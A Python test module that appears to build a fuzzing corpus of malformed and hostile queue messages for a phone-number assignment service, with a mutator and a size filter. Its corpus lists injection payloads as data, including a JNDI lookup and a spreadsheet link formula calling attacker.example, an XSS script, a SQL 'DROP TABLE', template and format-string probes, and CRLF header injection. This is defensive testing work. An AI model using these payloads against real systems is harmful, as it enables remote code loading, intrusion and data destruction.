"""What hostile messages are made of: a corpus of what has broken other programs, and ways to mangle it."""

import base64
import json
import re
from random import Random
from typing import Any, Final

_USER: Final = "6f0b2f8c-90f5-4a0e-9c39-1f0a3f8b6d21"
#: A good message, to be spoiled.
GOOD: Final = {"telephoneNumber": "+12065550110", "assignmentTargetId": _USER, "numberType": "callingPlan"}
#: How many of the corpus are good, and how many messages come of those.
_GOOD_ONES, _NEARLY_RIGHT = 2, 0.4
_MOST_BYTES: Final = 64 * 1024
#: What the queue service cannot carry, so that no sender can send it: characters that XML has no word for.
_NO_XML: Final = re.compile(r"[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def corpus() -> list[str]:
    """Return messages that have broken other programs, and some good ones to mangle."""
    good = json.dumps(GOOD)
    wrap = base64.b64encode
    texts = [
        good,
        wrap(good.encode()).decode(),
        wrap(wrap(good.encode())).decode(),
        "\ufeff" + good,
        wrap(b"\xef\xbb\xbf" + good.encode()).decode(),
        *(wrap(good.encode(code)).decode() for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32")),
        "",
        " ",
        "null",
        "[]",
        '""',
        "{}",
        "NaN",
        "0",
        "-" * 1000,
        "[" * 30_000,
        '{"a":' * 10_000,
        '{"context":' + '{"a":' * 5_000 + "1" + "}" * 5_000 + "}",
        "9" * 60_000,
        wrap(b"[" * 40_000).decode(),
        wrap(bytes(range(256))).decode(),
        "<html><script>alert(1)</script></html>",
        '=HYPERLINK("http://attacker.example","x")',
        "${jndi:ldap://attacker.example/a}",
        "'; DROP TABLE users; --",
        "{{7*7}}",
        "%s%s%n",
        "\r\nSet-Cookie: a=b",
        good[:-1],
        good + good,
        good.replace("+1206", "\u202e+1206"),
        "x" * _MOST_BYTES,
    ]
    values: list[Any] = [
        None,
        True,
        0,
        -1,
        1e308,
        "",
        "\x00",
        "\n",
        "\ud800",
        "\udfff\ud800",
        "<b>",
        "=1+1",
        "A" * 5000,
        [],
        {},
        [[]],
        {"a": {}},
    ]
    texts += [json.dumps(GOOD | {name: value}) for name in (*GOOD, *OTHERS) for value in values]
    texts += [good[:-1] + f', "{name}": {value}}}' for name in (*GOOD, *OTHERS) for value in _RAW]
    texts += [json.dumps(GOOD | {"context": {"note": "x" * size}}) for size in (8_000, 8_190, 8_200, 60_000)]
    texts += [json.dumps({**GOOD, key: "x"}) for key in ("__proto__", "constructor", "\u0000", "telephoneNumber ", "é")]
    return [text for text in map(sendable, texts) if text is not None]


#: Fields that a good message has not, or that the host itself uses.
OTHERS: Final = (
    *("requestId", "assignmentCategory", "locationId", "dryRun", "context", "delivery", "unknown"),
    *("id", "dequeueCount", "insertionTime", "expirationTime", "nextVisibleTime", "popReceipt", "queueTrigger"),
)
#: Values that a JSON library does not write.
_RAW: Final = (
    *("NaN", "Infinity", "-Infinity", "1e999", "9" * 400, "9" * 5000, '"\\ud800"', "-0", "1E400", "[", "}", "\\u0022"),
    *('"\\u0000"', "[" * 2000 + "]" * 2000, '{"a":1,"a":2}', "0x1", "'x'", '"\\u2028"'),
)


def mangled(rng: Random, known: list[str]) -> str:
    """Return a message of the corpus with some of it cut, doubled, exchanged or replaced."""
    # The first few are good: what is nearly right comes further into the app than what is plainly wrong.
    text = rng.choice(known[:_GOOD_ONES] if rng.random() < _NEARLY_RIGHT else known)
    for _ in range(rng.randint(0, 4)):
        start = rng.randrange(len(text) + 1)
        end = min(len(text), start + rng.choice([0, 1, 1, 3, 20]))
        piece = rng.choice(
            ["", "\\", '"', "{", "}", "[", ",", ":", "\u0000", "\u202e", "é", "\ud83d", text[start:end] * 2]
        )
        text = text[:start] + piece + text[end:]
    return base64.b64encode(text.encode("utf-8", "surrogatepass")).decode() if rng.random() < 0.2 else text


def sendable(text: str) -> str | None:
    """Return the text as far as the queue service carries it; None where it is too long."""
    text = _NO_XML.sub("", text)
    return text if len(text.encode()) <= _MOST_BYTES else None
